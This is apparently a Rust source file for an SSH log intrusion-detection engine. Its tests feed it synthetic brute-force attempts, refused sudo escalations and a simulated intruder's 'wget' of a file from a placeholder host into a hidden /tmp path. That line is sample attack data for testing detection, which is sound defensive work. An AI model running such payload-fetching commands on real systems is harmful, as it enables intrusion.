//! The detection engine: the one way from log lines to judged records.
//!
//! The analyzer (`bfp-logs`) hands out two things as lines arrive: finished
//! observations (sessions, source and device windows) and every login
//! attempt. The campaign detectors must see the attempts up to an
//! observation's end before it is judged, and not those after it, or a
//! session would be judged on a brute force that had not happened yet. The
//! engine does that merge in log-time order, once, for every caller: the
//! agent, training (`bfp-models`), the real-log tests and the benchmarks, so
//! what is trained is what ships.
//!
//! ```text
//! let mut engine = Engine::new(EngineConfig::default());
//! for line in lines { engine.feed(line); }
//! engine.drain(&mut scorer, &mut judged);     // as often as convenient
//! engine.finish(&mut scorer, &mut judged);    // end of input (scan)
//! ```
//!
//! For each observation: the detectors assess it (novelty against the user's
//! baseline, what the device holds against its address: the agent schema's
//! vector), the [`Score`]r gives the model's verdict, the detectors judge it
//! (raising it to Suspicious when a campaign or the session rules say so)
//! and learn it into the baselines when the final verdict is Normal. Each
//! campaign the detectors find becomes a judged record of its own.

use bfp_common::schema::AGENT_FEATURE_COUNT;
use bfp_common::{Prediction, Verdict};
use bfp_logs::{Analyzer, AnalyzerConfig, AuthAttempt, LogFormat, Observation};

use crate::campaign::CampaignAlert;
use crate::detector::{Assessment, DetectConfig, Detector, Judgement, SessionRules};

/// What the engine asks of the model that scores for it.
pub trait Score {
    /// The model's verdict on one observation and its reasons in words,
    /// strongest first. `assessment` holds the agent schema's vector.
    fn score(&mut self, observation: &Observation, assessment: &Assessment) -> Scored;

    /// Which session-level rules may raise the model's verdict on top of it
    /// (they depend on what the model already sees as features).
    fn session_rules(&self) -> SessionRules;

    /// Sees each login attempt, in log order, before the detectors do. The
    /// agent ignores them; training runs the fail2ban rule beside the model.
    fn attempt(&mut self, _attempt: &AuthAttempt) {}
}

/// A model's verdict with its reasons.
#[derive(Debug, Clone, PartialEq)]
pub struct Scored {
    /// The model's verdict.
    pub verdict: Verdict,
    /// Why, strongest first.
    pub reasons: Vec<String>,
}

/// Settings of one engine (one per log, so re-reading a log after a restart
/// rebuilds exactly its state).
#[derive(Debug, Clone, Default)]
pub struct EngineConfig {
    /// How lines are read. Default: see [`AnalyzerConfig`].
    pub analyzer: AnalyzerConfig,
    /// Baselines and campaign detectors. Default: see [`DetectConfig`].
    pub detect: DetectConfig,
    /// The log's format; `None` (the default) tells it from the first line.
    pub format: Option<LogFormat>,
}

/// One observation, judged.
#[derive(Debug, Clone)]
pub struct Judged {
    /// What the analyzer (or a campaign detector) saw.
    pub observation: Observation,
    /// The campaign, when this record reports one rather than an analyzer window.
    pub alert: Option<CampaignAlert>,
    /// The agent schema's vector the model scored.
    pub features: [f32; AGENT_FEATURE_COUNT],
    /// The model's own verdict.
    pub model: Verdict,
    /// The final class: the model's, raised by the detectors (or cleared for
    /// a source window that only logged in: see [`Judgement::cleared`]).
    pub prediction: Prediction,
    /// Probability of `prediction`, in [0.5, 1].
    pub confidence: f32,
    /// Why: the campaign's, then the detectors' when they decided, the
    /// model's, then what is new for the user as context.
    pub reasons: Vec<String>,
    /// What the detectors concluded (novelty, campaign, learnt).
    pub judgement: Judgement,
    /// Judged in the learning period: novelty did not count (as
    /// `judgement.learning`).
    pub learning: bool,
}

/// Analyzer, detectors and the session rules of one log.
#[derive(Debug)]
pub struct Engine {
    analyzer: Analyzer,
    detector: Detector,
    /// `None` until the first line shows an `auto` log's format.
    format: Option<LogFormat>,
    /// The log's local time, for campaign fingerprints' hours.
    zone: bfp_logs::zone::ZoneCache,
}

impl Engine {
    /// A fresh engine.
    pub fn new(config: EngineConfig) -> Engine {
        let detector = Detector::new(config.detect);
        Engine::with_detector(config.analyzer, config.format, detector)
    }

    /// An engine around `detector` (e.g. baselines loaded from the agent's
    /// state directory).
    pub fn with_detector(analyzer: AnalyzerConfig, format: Option<LogFormat>, detector: Detector) -> Engine {
        let zone = bfp_logs::zone::ZoneCache::new(analyzer.local_zone());
        let mut analyzer = Analyzer::new(analyzer);
        analyzer.record_auth_attempts();
        Engine { analyzer, detector, format, zone }
    }

    /// Feeds one line.
    pub fn feed(&mut self, line: &str) {
        let format = *self.format.get_or_insert_with(|| format_of_first_line(line));
        self.analyzer.feed_line(line, format);
    }

    /// Feeds one line re-read after a restart: it rebuilds the analyzer's and
    /// the campaign windows' state, but what it completes was reported
    /// before the restart, so nothing is judged, learnt or counted again.
    pub fn replay(&mut self, line: &str) {
        self.feed(line);
        drop(self.analyzer.drain_ready());
        self.detector.replay_attempts(&self.analyzer.drain_auth_attempts());
    }

    /// Judges what the analyzer completed since the last call, in log-time
    /// order, appending to `out`.
    pub fn drain(&mut self, scorer: &mut dyn Score, out: &mut Vec<Judged>) {
        let observations = self.analyzer.drain_ready();
        self.judge_all(observations, scorer, out);
    }

    /// End of input: judges everything still pending, open sessions marked open.
    pub fn finish(&mut self, scorer: &mut dyn Score, out: &mut Vec<Judged>) {
        self.drain(scorer, out);
        let rest = self.analyzer.finish();
        self.judge_all(rest, scorer, out);
    }

    /// Learns the device's past from `lines` (a rotated log, the journal's
    /// past) without judging anything: every session that is not from a
    /// campaign's address and had no refused privilege escalation goes into
    /// its user's baseline; the campaign detectors see the attempts, so an
    /// attacker's successful login is not learnt as a habit. Returns the
    /// sessions learnt. Call before the first line judged: a device that
    /// learnt enough history skips the learning period. Sessions still open
    /// at the end of the history stay open: the lines that follow end them,
    /// and they are judged then, as any other.
    pub fn learn_history<'a>(&mut self, lines: impl IntoIterator<Item = &'a str>) -> u64 {
        let mut learnt = 0;
        for line in lines {
            self.feed(line);
            let observations = self.analyzer.drain_ready();
            learnt += self.learn_observations(observations);
        }
        learnt
    }

    /// As the judging path: each observation after the attempts up to its end.
    fn learn_observations(&mut self, mut observations: Vec<Observation>) -> u64 {
        let attempts = self.analyzer.drain_auth_attempts();
        if observations.is_empty() {
            drop(self.detector.observe_attempts(&attempts));
            return 0;
        }
        observations.sort_by_key(|o| o.end.unwrap_or(o.start));
        let mut next = 0;
        let mut learnt = 0;
        for observation in observations {
            let until = observation.end.unwrap_or(observation.start);
            let upto = next + attempts[next..].iter().take_while(|a| a.at <= until).count();
            drop(self.detector.observe_attempts(&attempts[next..upto]));
            next = upto;
            learnt += u64::from(self.detector.learn_past(&observation));
        }
        drop(self.detector.observe_attempts(&attempts[next..]));
        learnt
    }

    /// The next lines start another input (a rotated file, another log):
    /// see [`Analyzer::new_input`].
    pub fn new_input(&mut self) {
        self.analyzer.new_input();
    }

    /// The log's format, once known.
    pub fn format(&self) -> Option<LogFormat> {
        self.format
    }

    /// The analyzer (for its statistics).
    pub fn analyzer(&self) -> &Analyzer {
        &self.analyzer
    }

    /// The analyzer, to feed binary records (wtmp) directly.
    pub fn analyzer_mut(&mut self) -> &mut Analyzer {
        &mut self.analyzer
    }

    /// The baselines and campaign detectors (to save their state).
    pub fn detector(&self) -> &Detector {
        &self.detector
    }

    /// The detectors, to learn a past login no log line holds (lastlog).
    pub fn detector_mut(&mut self) -> &mut Detector {
        &mut self.detector
    }

    /// Each observation judged on the attempts up to its end, not on what the
    /// rest of the batch holds; the attempts after the last one go to the
    /// detectors at the end.
    fn judge_all(&mut self, mut observations: Vec<Observation>, scorer: &mut dyn Score, out: &mut Vec<Judged>) {
        let attempts = self.analyzer.drain_auth_attempts();
        self.detector.set_session_rules(scorer.session_rules());
        observations.sort_by_key(|o| o.end.unwrap_or(o.start));
        let mut next = 0;
        for observation in observations {
            let until = observation.end.unwrap_or(observation.start);
            let upto = next + attempts[next..].iter().take_while(|a| a.at <= until).count();
            self.observe_attempts(&attempts[next..upto], scorer, out);
            next = upto;
            out.push(self.judge(observation, None, scorer));
        }
        self.observe_attempts(&attempts[next..], scorer, out);
    }

    /// Feeds attempts to the campaign detectors; each campaign they detect
    /// is judged as a record of its own.
    fn observe_attempts(&mut self, attempts: &[AuthAttempt], scorer: &mut dyn Score, out: &mut Vec<Judged>) {
        for a in attempts {
            scorer.attempt(a);
        }
        for alert in self.detector.observe_attempts(attempts) {
            let offset = self.zone.offset_at(alert.start.saturating_mul(1000));
            let observation = Detector::alert_observation(&alert, offset);
            out.push(self.judge(observation, Some(alert), scorer));
        }
    }

    /// Assess, score, judge (and learn if Normal); reasons merged.
    fn judge(&mut self, observation: Observation, alert: Option<CampaignAlert>, scorer: &mut dyn Score) -> Judged {
        self.detector.note_time(observation.start);
        let assessment = self.detector.assess(&observation);
        let features = assessment.features;
        let Scored { verdict, reasons: model_reasons } = scorer.score(&observation, &assessment);
        let judgement = self.detector.judge_assessed(&observation, &verdict, assessment);
        let mut reasons: Vec<String> = alert.iter().flat_map(|a| a.reasons.iter().cloned()).collect();
        let confidence;
        if judgement.cleared {
            // The detectors cleared the model's Suspicious: its reasons for it go.
            confidence = judgement.confidence;
            reasons.extend(judgement.reasons.iter().cloned());
        } else if judgement.escalated {
            // The detectors decided: their reasons lead. The model's own
            // reasons explained a Normal verdict ("0 failed logins ..."):
            // beside a Suspicious one they would contradict it, so they go.
            confidence = judgement.confidence;
            reasons.extend(judgement.reasons.iter().cloned());
            if verdict.suspicious {
                reasons.extend(model_reasons);
            }
        } else {
            // The model decided; what is new for this user is context after it.
            confidence = verdict.confidence;
            reasons.extend(model_reasons);
            reasons.extend(judgement.reasons.iter().cloned());
        }
        Judged {
            observation,
            alert,
            features,
            model: verdict,
            prediction: Prediction::from_suspicious(judgement.suspicious),
            confidence,
            reasons,
            learning: judgement.learning,
            judgement,
        }
    }
}

/// The format of a text log from its first line; when that says nothing
/// (`Auto`), the analyzer tells each line's format itself.
fn format_of_first_line(line: &str) -> LogFormat {
    match LogFormat::detect(line.as_bytes()) {
        LogFormat::Utmp => LogFormat::Auto,
        other => other,
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use bfp_common::artifacts::EMBEDDED_AGENT_MODEL;
    use bfp_common::CompactModel;
    use bfp_logs::analyze::RecordKind;
    use bfp_testkit::{alice_history, sshd_session};

    /// The agent's way of scoring: the embedded agent model on the vector.
    struct Model(CompactModel);

    impl Score for Model {
        fn score(&mut self, _: &Observation, assessment: &Assessment) -> Scored {
            Scored { verdict: self.0.score(&assessment.features), reasons: Vec::new() }
        }
        fn session_rules(&self) -> SessionRules {
            SessionRules::AccountChurn
        }
    }

    /// A model that always says Normal: every Suspicious comes from the detectors.
    struct AlwaysNormal;

    impl Score for AlwaysNormal {
        fn score(&mut self, _: &Observation, _: &Assessment) -> Scored {
            Scored { verdict: Verdict::flat(false, 0.9, AGENT_FEATURE_COUNT), reasons: Vec::new() }
        }
        fn session_rules(&self) -> SessionRules {
            SessionRules::AccountChurn
        }
    }

    fn engine() -> Engine {
        let analyzer = AnalyzerConfig { reference_time: Some(1_796_083_200), ..AnalyzerConfig::default() };
        Engine::new(EngineConfig { analyzer, format: Some(LogFormat::Syslog), ..EngineConfig::default() })
    }

    fn judge_all(engine: &mut Engine, lines: &[String], scorer: &mut dyn Score) -> Vec<Judged> {
        let mut out = Vec::new();
        for line in lines {
            engine.feed(line);
            engine.drain(scorer, &mut out);
        }
        engine.finish(scorer, &mut out);
        out
    }

    /// Day one of a fresh install: 40 addresses fail 3 times each (a
    /// distributed brute force) and one hammers root, then gets in as
    /// `oracle` and downloads; meanwhile 12 people log in for the first
    /// time, each from an address of their own, without a typo.
    fn day_one_under_attack() -> (Vec<String>, Vec<String>) {
        let mut lines = Vec::new();
        for minute in 0..40u32 {
            for k in 0..3 {
                lines.push(format!(
                    "Nov 20 08:{minute:02}:{:02} host sshd[{}]: Failed password for invalid user admin{k} from 203.0.113.{} port 40000 ssh2",
                    10 + k * 10,
                    5000 + minute * 3 + k,
                    100 + minute
                ));
            }
        }
        for s in 0..30u32 {
            lines.push(format!(
                "Nov 20 08:{:02}:{:02} host sshd[6000]: Failed password for root from 192.0.2.66 port 41000 ssh2",
                41 + s / 10,
                (s % 10) * 5
            ));
        }
        lines.extend(sshd_session(
            20,
            (8, 45),
            6001,
            "oracle",
            "192.0.2.66",
            0,
            &["/usr/bin/wget http://192.0.2.9/x -O /tmp/.x"],
        ));
        let mut newcomers = Vec::new();
        for u in 0..12u32 {
            let user = format!("staff{u}");
            let ip = format!("198.51.{}.{}", 100 + u, 10 + u);
            lines.extend(sshd_session(20, (8, 2 + 3 * u), 7000 + u, &user, &ip, 0, &["/usr/bin/apt update"]));
            newcomers.push(user);
        }
        lines.sort_by(|a, b| a[..15].cmp(&b[..15]));
        (lines, newcomers)
    }

    #[test]
    fn a_fresh_device_under_brute_force_keeps_its_newcomers_normal_and_flags_the_attackers() {
        let (lines, newcomers) = day_one_under_attack();
        let model = CompactModel::from_bytes(EMBEDDED_AGENT_MODEL).unwrap();
        let mut engine = engine();
        let judged = judge_all(&mut engine, &lines, &mut Model(model));
        let sessions: Vec<&Judged> = judged.iter().filter(|j| j.observation.kind == RecordKind::Session).collect();
        for user in &newcomers {
            let j = sessions.iter().find(|j| j.observation.user.as_deref() == Some(user)).expect("a session");
            assert_eq!(j.prediction, Prediction::Normal, "{user}: {:?} {:?}", j.features, j.reasons);
            assert!(j.learning && j.judgement.learning);
            assert!(j.confidence >= 0.5 && j.confidence < 1.0, "{}", j.confidence);
            // The attack around a clean login is not its context.
            let at = |name: &str| {
                j.features[bfp_common::schema::AGENT_FEATURE_NAMES.iter().position(|n| *n == name).unwrap()]
            };
            assert_eq!(at("device_failing_sources_last_hour"), 0.0);
        }
        let intruder = sessions.iter().find(|j| j.observation.user.as_deref() == Some("oracle")).unwrap();
        assert_eq!(
            intruder.prediction,
            Prediction::Suspicious,
            "{:?} {:?} {:?}",
            intruder.features,
            intruder.model,
            intruder.observation
        );
        assert!(intruder.learning);
        let hammer: std::net::IpAddr = "192.0.2.66".parse().unwrap();
        assert!(judged
            .iter()
            .filter(|j| j.observation.kind != RecordKind::Session && j.observation.source_ip == Some(hammer))
            .all(|j| j.prediction == Prediction::Suspicious));
        // The distributed brute force is reported as such.
        assert!(judged
            .iter()
            .any(|j| j.observation.kind == RecordKind::Device && j.prediction == Prediction::Suspicious));
    }

    #[test]
    fn the_learning_period_ends_after_its_hours_and_zero_turns_it_off() {
        let history = alice_history();
        let mut on = engine();
        let judged = judge_all(&mut on, &history, &mut AlwaysNormal);
        // Day 1 to day 2 09:00 is within 24 h of the first login; day 3 is not.
        assert!(judged.first().unwrap().learning);
        assert!(!judged.last().unwrap().learning);
        let mut off = Engine::new(EngineConfig {
            analyzer: AnalyzerConfig { reference_time: Some(1_796_083_200), ..AnalyzerConfig::default() },
            format: Some(LogFormat::Syslog),
            detect: DetectConfig { learning_hours: 0, ..DetectConfig::default() },
        });
        assert!(judge_all(&mut off, &history, &mut AlwaysNormal).iter().all(|j| !j.learning));
    }

    #[test]
    fn a_restart_resumes_the_learning_period_rather_than_ending_or_restarting_it() {
        let history = alice_history();
        let (first, rest) = history.split_at(4);
        let mut before = engine();
        let judged = judge_all(&mut before, first, &mut AlwaysNormal);
        assert!(judged.iter().all(|j| j.learning));
        let saved = before.detector().learning();
        assert!(matches!(saved, crate::detector::Learning::Until(_)), "{saved:?}");
        // After the restart: the baselines learnt so far, and the period as saved.
        let baselines = crate::baseline::Baselines::from_bytes(
            &before.detector().baselines().to_bytes().unwrap(),
            crate::baseline::BaselineConfig::default(),
        )
        .unwrap();
        let resumed = |saved: Option<crate::detector::Learning>| {
            let mut d = Detector::with_baselines(baselines.clone(), Default::default(), 24);
            if let Some(saved) = saved {
                d.resume_learning(saved);
            }
            let analyzer = AnalyzerConfig { reference_time: Some(1_796_083_200), ..AnalyzerConfig::default() };
            let mut e = Engine::with_detector(analyzer, Some(LogFormat::Syslog), d);
            judge_all(&mut e, rest, &mut AlwaysNormal).iter().map(|j| j.learning).collect::<Vec<_>>()
        };
        // Resumed, it ends when it would have without the restart...
        let whole: Vec<bool> =
            judge_all(&mut engine(), &history, &mut AlwaysNormal).iter().map(|j| j.learning).collect();
        assert_eq!(resumed(Some(saved)), whole[whole.len() - resumed(Some(saved)).len()..]);
        // ...where a fresh decision would start it again from the first line after the restart.
        assert_ne!(resumed(None), resumed(Some(saved)));
    }

    #[test]
    fn a_refused_sudo_of_passwd_root_is_suspicious_from_the_first_line_with_its_reason() {
        let mut lines = sshd_session(20, (10, 0), 800, "bob", "198.51.100.7", 0, &[]);
        lines.insert(
            2,
            "Nov 20 10:01:05 host sudo:      bob : user NOT in sudoers ; TTY=pts/0 ; PWD=/home/bob ; USER=root ; COMMAND=/usr/bin/passwd root"
                .to_string(),
        );
        let mut engine = engine();
        let judged = judge_all(&mut engine, &lines, &mut AlwaysNormal);
        let bob = judged.iter().find(|j| j.observation.user.as_deref() == Some("bob")).unwrap();
        assert_eq!(bob.prediction, Prediction::Suspicious);
        assert!(bob.learning && bob.judgement.escalated && !bob.judgement.learnt);
        assert_eq!(bob.reasons[0], "sudo refused (user NOT in sudoers), tried `passwd root`");
        assert_eq!(engine.analyzer().stats().privilege_refusals, 1);
    }

    #[test]
    fn learning_history_gives_the_baselines_that_judging_the_same_history_does() {
        let history = alice_history();
        let mut learnt = engine();
        assert_eq!(learnt.learn_history(history.iter().map(String::as_str)), 14);
        let mut judged = engine();
        judge_all(&mut judged, &history, &mut AlwaysNormal);
        assert_eq!(
            learnt.detector().baselines().to_bytes().unwrap(),
            judged.detector().baselines().to_bytes().unwrap()
        );
        // With that history the device judges novelty at once: no learning period.
        let mut out = Vec::new();
        for line in sshd_session(15, (10, 0), 900, "alice", "198.51.100.40", 0, &[]) {
            learnt.feed(&line);
        }
        learnt.finish(&mut AlwaysNormal, &mut out);
        assert!(out.iter().all(|j| !j.learning) && !out.is_empty());
    }

    #[test]
    fn an_account_new_to_a_device_with_history_is_judged_on_what_it_did_when_nothing_else_is_wrong() {
        let mut engine = engine();
        assert_eq!(engine.learn_history(alice_history().iter().map(String::as_str)), 14);
        let mut lines = Vec::new();
        // carol: a first login, first try, from a network nobody here used, an ordinary command;
        // her second login the day after.
        let by_key = |lines: Vec<String>| -> Vec<String> {
            lines
                .into_iter()
                .map(|l| {
                    l.replace("Accepted password", "Accepted publickey").replace(" ssh2", " ssh2: ED25519 SHA256:x")
                })
                .collect()
        };
        lines.extend(by_key(sshd_session(15, (10, 0), 901, "carol", "203.0.113.5", 0, &["/usr/bin/apt update"])));
        lines.extend(by_key(sshd_session(16, (10, 0), 902, "carol", "203.0.113.5", 0, &["/usr/bin/apt update"])));
        // grace: the same by password (as bots with default passwords get in).
        lines.extend(sshd_session(15, (10, 30), 908, "grace", "198.18.1.9", 0, &["/usr/bin/apt update"]));
        // dave mistyped first; erin downloads into /tmp; frank logs in from an address that
        // failed for another name an hour before (all by key); alice, known, from a new network.
        lines.extend(by_key(sshd_session(15, (11, 0), 903, "dave", "198.18.2.6", 1, &[])));
        lines.extend(by_key(sshd_session(
            15,
            (12, 0),
            904,
            "erin",
            "198.18.3.7",
            0,
            &["/usr/bin/wget http://192.0.2.9/x -O /tmp/.x"],
        )));
        lines.push("Nov 15 12:00:01 host sshd[905]: Failed password for root from 198.18.4.8 port 50001 ssh2".into());
        lines.extend(by_key(sshd_session(15, (13, 0), 906, "frank", "198.18.4.8", 0, &[])));
        lines.extend(sshd_session(15, (14, 0), 907, "alice", "192.0.2.200", 0, &[]));
        lines.sort_by(|a, b| a[..15].cmp(&b[..15]));
        let mut out = Vec::new();
        for line in &lines {
            engine.feed(line);
            engine.drain(&mut AlwaysNormal, &mut out);
        }
        engine.finish(&mut AlwaysNormal, &mut out);
        let sessions: Vec<&Judged> = out.iter().filter(|j| j.observation.kind == RecordKind::Session).collect();
        let of = |user: &str| -> Vec<&Judged> {
            sessions.iter().copied().filter(|j| j.observation.user.as_deref() == Some(user)).collect()
        };
        let at = |j: &Judged, name: &str| {
            j.features[bfp_common::schema::AGENT_FEATURE_NAMES.iter().position(|n| *n == name).unwrap()]
        };
        let carol = of("carol");
        assert_eq!(carol.len(), 2);
        // Her first session (a key, the first try, `apt update`): its vector holds no novelty
        // of who or where (as in a learning period), the reason says why, and it is learnt:
        // the second is a known user's, from a network one known user (she) comes from.
        assert!(!carol[0].learning);
        assert_eq!(at(carol[0], "never_seen_user"), bfp_common::UNKNOWN);
        assert_eq!(at(carol[0], "known_users_from_network"), bfp_common::UNKNOWN);
        assert!(carol[0]
            .reasons
            .iter()
            .any(|r| r.starts_with("first login by carol on this device, by key at the first try")));
        assert!(carol[0].judgement.learnt);
        assert_eq!(at(carol[1], "never_seen_user"), 0.0);
        assert_eq!(at(carol[1], "known_users_from_network"), 1.0);
        assert!(carol[1].reasons.iter().all(|r| !r.contains("at the first try")));
        // Anything else wrong and being new counts, as before.
        for user in ["grace", "dave", "erin", "frank"] {
            let j = of(user)[0];
            assert_eq!(at(j, "never_seen_user"), 1.0, "{user}");
            assert_eq!(at(j, "known_users_from_network"), 0.0, "{user}");
            assert!(j.reasons.iter().all(|r| !r.contains("at the first try")), "{user}: {:?}", j.reasons);
        }
        // A known account from a new network is a stolen account's look: it still counts.
        let alice = of("alice")[0];
        assert_eq!(at(alice, "new_network_for_user"), 1.0);
        assert_eq!(at(alice, "known_users_from_network"), 0.0);
    }

    #[test]
    fn history_with_a_refused_escalation_is_not_learnt() {
        let mut lines = sshd_session(20, (10, 0), 800, "bob", "198.51.100.7", 0, &["/usr/bin/ls"]);
        lines.insert(
            2,
            "Nov 20 10:01:05 host sudo:      bob : command not allowed ; TTY=pts/0 ; PWD=/home/bob ; USER=root ; COMMAND=/bin/bash"
                .to_string(),
        );
        let mut engine = engine();
        assert_eq!(engine.learn_history(lines.iter().map(String::as_str)), 0);
        assert_eq!(engine.detector().baselines().sessions_of("bob"), 0);
    }
}
